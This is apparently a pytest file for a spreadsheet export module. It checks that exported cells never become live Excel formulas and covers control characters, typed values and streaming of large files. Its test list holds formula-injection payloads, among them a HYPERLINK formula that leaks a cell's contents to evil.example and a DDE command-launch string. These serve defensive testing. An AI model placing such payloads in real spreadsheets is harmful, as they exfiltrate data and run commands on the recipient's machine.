"""Exports cannot carry formulas from the data, and are written row by row.

Formula-like text is a text cell with Excel's quote-prefix style (no visible apostrophe, kept as
text when edited); tests/core/test_workbook_libreoffice.py shows LibreOffice reading it back."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.xlsx import MONEY_FORMAT, XlsxWriter, clean_text, formula_like, write_rows

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_excel_would_run_is_recognised(text):
    assert formula_like(clean_text(text))


@pytest.mark.parametrize("text", ["张三", "410821", "备注: =1", "a-b", ""])
def test_plain_text_is_unchanged(text):
    assert not formula_like(text)
    assert clean_text(text) == text


def _read(buffer):
    buffer.seek(0)
    return load_workbook(buffer)  # not read-only: data types are visible


def test_export_holds_no_formula_whatever_the_data():
    buffer = io.BytesIO()
    rows = [[text, "正常"] for text in DANGEROUS]
    assert write_rows(buffer, title="户/清单", headers=["名称", "备注"], rows=rows) == len(DANGEROUS)
    sheet = _read(buffer).active
    assert sheet.title == "户清单"  # '/' is not allowed in a sheet title
    for cells, text in zip(sheet.iter_rows(min_row=2), DANGEROUS, strict=True):
        assert cells[0].data_type == "s"
        assert cells[0].quotePrefix  # Excel's quote prefix: no apostrophe in the text
        assert cells[0].value == text.replace("\t", "")  # a tab is a control character: removed
        assert not cells[1].quotePrefix
    with zip_open(buffer) as xml:
        assert "<f>" not in xml  # no formula element anywhere in the sheet


def zip_open(buffer):
    import contextlib
    import zipfile

    @contextlib.contextmanager
    def sheet_xml():
        buffer.seek(0)
        with zipfile.ZipFile(buffer) as archive:
            yield archive.read("xl/worksheets/sheet1.xml").decode()

    return sheet_xml()


def test_typed_values_stay_typed():
    buffer = io.BytesIO()
    when = dt.datetime(2017, 5, 12, 9, 30, tzinfo=dt.UTC)
    write_rows(
        buffer,
        title="funds",
        headers=["amount", "count", "date", "when", "negative"],
        rows=[[Decimal("1234.50"), 3, dt.date(2017, 5, 12), when, -5]],
    )
    row = next(_read(buffer).active.iter_rows(min_row=2))
    assert row[0].number_format == MONEY_FORMAT  # yuan: #,##0.00
    assert row[2].is_date
    cells = [cell.value for cell in row]
    assert cells[0] == pytest.approx(1234.5)
    assert cells[1] == 3
    assert cells[2].date() == dt.date(2017, 5, 12)
    # Asia/Shanghai wall time, as the leaders read it (Excel has no time zones).
    assert cells[3] == dt.datetime(2017, 5, 12, 17, 30, tzinfo=dt.UTC).replace(tzinfo=None)
    assert cells[4] == -5  # a number, not escaped text


def test_control_characters_do_not_break_the_file():
    buffer = io.BytesIO()
    write_rows(buffer, title="x", headers=["a"], rows=[["李\x00四\x1b"], ["一行\n两行\r\n"], ["长" * 40000]])
    values = [row[0] for row in _read(buffer).active.iter_rows(min_row=2, values_only=True)]
    assert values[:2] == ["李四", "一行\n两行\r\n"]  # line breaks stay
    assert len(values[2]) == 32767  # Excel's limit for a cell


def test_many_rows_stream_through_a_write_only_book():
    import tracemalloc

    buffer = io.BytesIO()
    tracemalloc.start()
    written = write_rows(
        buffer, title="big", headers=["a", "b", "c"], rows=([i, f"户{i}", "=x"] for i in range(30000))
    )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert written == 30000
    assert peak < 30 * 1024 * 1024  # a full in-memory workbook of 90,000 cells would need far more


def test_download_response(rf):
    with XlsxWriter() as book:
        sheet = book.sheet("清单", headers=["户主"], widths=[20])
        sheet.append(["=1+1"])
        response = book.response("清单.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    body = io.BytesIO(b"".join(response.streaming_content))
    cell = load_workbook(body).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
